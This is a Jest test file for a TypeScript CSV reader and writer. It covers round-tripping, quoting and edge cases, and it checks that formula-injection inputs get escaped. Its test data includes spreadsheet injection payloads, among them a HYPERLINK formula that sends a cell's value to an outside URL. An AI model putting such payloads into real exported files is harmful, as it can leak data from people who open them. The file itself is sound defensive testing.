import { describe, expect, it } from '@jest/globals';
import { CsvReader, csvRow } from './csv.js';

const read = (text: string, pieceLength: number): string[][] => {
  const reader = new CsvReader();
  const rows: string[][] = [];
  for (let i = 0; i < text.length; i += pieceLength) rows.push(...reader.push(text.slice(i, i + pieceLength)));
  return [...rows, ...reader.end()];
};

describe('CSV', () => {
  const rows = [
    ['endpoint_name', 'description'],
    ['a,b', 'says "hello"'],
    ['', 'two\r\nlines'],
    ['ü☀', '"'],
  ];

  it.each([1, 2, 7, 1_000])('what is written is read, in pieces of %i', (length) => {
    expect(read(rows.map(csvRow).join(''), length)).toEqual(rows);
  });

  const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '=HYPERLINK("http://a/?"&A1,"b")'];

  it.each(formulas)('%j at the start of a cell is a text to a spreadsheet, and read as it was', (text) => {
    for (const cell of [text, `'${text}`, `''${text}`]) {
      const line = csvRow([cell, 'b']);
      expect(line).toMatch(/^"?'/);
      expect(read(line, 1)).toEqual([[cell, 'b']]);
    }
  });

  it.each(["it's", "'quoted'", 'a=b', '1-2', "'"])('%j stays as it is', (text) => {
    expect(csvRow([text])).toBe(`${text}\r\n`);
    expect(read(csvRow([text]), 1)).toEqual([[text]]);
  });

  it('a formula that a table brings without the apostrophe is taken as it is', () => {
    expect(read("=1,'x,-5\r\n", 100)).toEqual([['=1', "'x", '-5']]);
  });

  it('takes a byte order mark, bare line ends and a last line without end; an empty line is a row of one cell', () => {
    expect(read('\uFEFFa,b\n\n1,2\n3,', 1)).toEqual([['a', 'b'], [''], ['1', '2'], ['3', '']]);
  });

  it.each([
    [
      'a,5" pipe\nb,5" pipe\n',
      [
        ['a', '5" pipe'],
        ['b', '5" pipe'],
      ],
    ],
    ['a,say "so, and"\n', [['a', 'say "so', ' and"']]],
    ['"a"b,"c""d"\r\n', [['ab', 'c"d']]],
    ['"",""\n', [['', '']]],
  ])('a quote within a cell without quotes is a character: %j', (text, rows) => {
    for (const length of [1, 100]) expect(read(text, length)).toEqual(rows);
  });

  it('refuses a quote that is not closed, and a row without end', () => {
    expect(() => read('a\n"b', 1)).toThrow();
    expect(() => read('x'.repeat(70_000), 1_000)).toThrow();
  });
});
